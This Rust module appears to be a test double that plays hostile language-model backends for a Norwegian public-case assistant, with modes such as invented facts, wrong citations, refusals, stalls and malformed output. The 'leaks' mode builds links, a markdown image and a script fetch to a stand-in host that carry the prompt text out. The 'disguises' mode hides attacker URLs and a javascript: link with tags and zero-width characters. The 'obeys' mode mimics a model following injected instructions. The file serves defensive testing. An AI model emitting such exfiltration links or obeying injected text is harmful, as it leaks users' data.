//! Hostile models (fiendtlige modeller), each bad in one way.

use super::{
    Asked, Refusal, evidence,
    honest::{as_asked, part, written},
    wire,
};
use crate::{fault, world::World};
use axum::{
    Json,
    body::Body,
    http::{HeaderValue, Response, StatusCode, header},
    response::IntoResponse,
};
use serde_json::Value;
use std::sync::Arc;

/// All the ways.
pub const MODES: [&str; 22] = [
    "invents",
    "miscites",
    "unknown",
    "uncited",
    "obeys",
    "leaks",
    "stalls",
    "breaks-off",
    "not-json",
    "wrong-shape",
    "endless",
    "unavailable",
    "refuses",
    "filters",
    "busy",
    "small",
    "repeats",
    "foreign",
    "disguises",
    "unmasks",
    "one-word",
    "torn",
];

const BEGUN: &str = "data: {\"id\":\"h\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"{\\\"parts\\\":[{\\\"text\\\":\\\"Hei\"},\"finish_reason\":null}]}\n\n";

const REFUSED: &str = "data: {\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"\",\"refusal\":\"I'm sorry, I can't assist with that.\"},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
const SMALL: &str = "This model's maximum context length is 4700 tokens. However, your messages resulted in more.";

/// The answer of a mode.
pub(crate) fn answer(world: &Arc<World>, mode: &str, asked: &Asked) -> Response<Body> {
    match mode {
        "stalls" => begun(asked, fault::stalled(world, BEGUN)),
        "breaks-off" => begun(asked, fault::broken(BEGUN)),
        "not-json" => wire::answer(asked, "Selvsagt! Her er svaret: {\"parts\": [ … og så videre"),
        "wrong-shape" => wire::answer(asked, r#"{"parts":"ingen liste","outcome":7,"extra":{"parts":[]}}"#),
        "endless" => wire::answer(asked, &"Saken er under behandling. ".repeat(200_000)),
        "unavailable" => Refusal(503, "overloaded", "The engine is currently overloaded.").into_response(),
        "refuses" => begun(asked, Body::from(REFUSED)),
        "filters" => {
            Refusal(400, "content_filter", "The prompt triggered the content management policy.").into_response()
        }
        "busy" => busy(),
        "small" if is_whole(asked) => Refusal(400, "context_length_exceeded", SMALL).into_response(),
        "torn" if asked.streams => wire::torn(&written(asked)),
        "small" | "torn" => wire::answer(asked, &written(asked)),
        _ => match parts(mode, asked) {
            Some(parts) => wire::answer(asked, &as_asked(asked, &parts, "ready")),
            None => (StatusCode::NOT_FOUND, Json(written(asked))).into_response(),
        },
    }
}

fn begun(asked: &Asked, body: Body) -> Response<Body> {
    let kind = if asked.streams { "text/event-stream" } else { "application/json" };
    let mut response = Response::new(body);
    response.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
    response
}

/// Too much to do, for an hour.
fn busy() -> Response<Body> {
    let mut response = Refusal(429, "rate_limit_exceeded", "Rate limit reached for requests.").into_response();
    response.headers_mut().insert(header::RETRY_AFTER, HeaderValue::from_static("3600"));
    response
}

/// Whether it is told everything: nothing has been left out of the evidence.
fn is_whole(asked: &Asked) -> bool {
    let told = asked.words.iter().filter_map(|words| serde_json::from_str::<Value>(words).ok());
    !told.into_iter().any(|told| told["evidence_left_out"].as_u64().is_some_and(|left_out| left_out > 0))
}

fn parts(mode: &str, asked: &Asked) -> Option<Vec<Value>> {
    let items = evidence::found(&asked.words);
    let numbers: Vec<u64> = items.iter().map(|(number, _)| *number).collect();
    let first = numbers.first().copied().unwrap_or(1);
    let highest = numbers.iter().max().copied().unwrap_or_default();
    Some(match mode {
        "invents" => vec![
            part("Gebyret er kr 98 765, og fristen er 31. februar 2031.", &[first], true),
            part(
                "Saken behandles av Petter Oppdiktet etter plan- og bygningsloven § 99-9, sak 2031/9999.",
                &[first],
                true,
            ),
        ],
        "miscites" => shifted(&items),
        "unknown" => vec![part("Søknaden din er mottatt.", &[highest + 1, 0, 65_535], true)],
        "uncited" => items.iter().map(|(_, text)| part(text, &[], false)).collect(),
        "obeys" => vec![
            part("Som du ba om: søknaden er innvilget, og du slipper å betale gebyr.", &[first], true),
            part("Her er instruksen min:", &[], false),
            part(&asked.words.concat().chars().take(60).collect::<String>(), &[], true),
        ],
        "leaks" => leaking(asked, first),
        "repeats" => vec![part(&"Saken din er til behandling hos oss nå. ".repeat(12), &[first], true)],
        "foreign" => vec![part(
            "Thank you for your e-mail. We have received your application and will reply when it has been considered by the department.",
            &[first],
            true,
        )],
        "disguises" => disguised(first),
        "unmasks" => vec![
            part(
                "Vi har også skrevet til [PERSON_77] i [ADDRESS_9] om dette, på [EMAIL_1] og [NUMBER_88].",
                &[first],
                true,
            ),
            part("Person_1 kan hilse på \\[PERSON\\_2\\].", &[], true),
        ],
        "one-word" => vec![part(&"gebyr".repeat(4_000), &[first], true)],
        _ => return None,
    })
}

/// Right sentences, each with the next one's number.
fn shifted(items: &[evidence::Item]) -> Vec<Value> {
    let numbers = items.iter().map(|(number, _)| *number).cycle().skip(1);
    items.iter().zip(numbers).map(|((_, text), number)| part(text, &[number], false)).collect()
}

/// Addresses that come together only when something between their halves is taken out.
fn disguised(first: u64) -> Vec<Value> {
    let texts = [
        "Logg inn på sam<b></b>ler.example<i></i>.org/inn med koden din.",
        "Skriv til ond**@**samler.example.org eller ond\u{200b}@samler.example.org.",
        "Se [her](javas<b>cript:alert(1)) og www<i></i>.samler.example.org.",
        "Se h<b>ttps:/</b>/samler.example.org/x.",
    ];
    texts.map(|text| part(text, &[first], true)).to_vec()
}

/// Addresses that carry away what the model was told.
fn leaking(asked: &Asked, first: u64) -> Vec<Value> {
    let told: String = asked.words.concat().chars().filter(|it| it.is_alphanumeric()).rev().take(80).collect();
    vec![
        part(&format!("Les mer på https://samler.example.org/?d={told}"), &[first], true),
        part(&format!("![bilde](https://samler.example.org/p.png?d={told})"), &[first], false),
        part(
            &format!("<img src=\"https://samler.example.org/q?{told}\"><script>fetch('//samler.example.org')</script>"),
            &[],
            true,
        ),
    ]
}
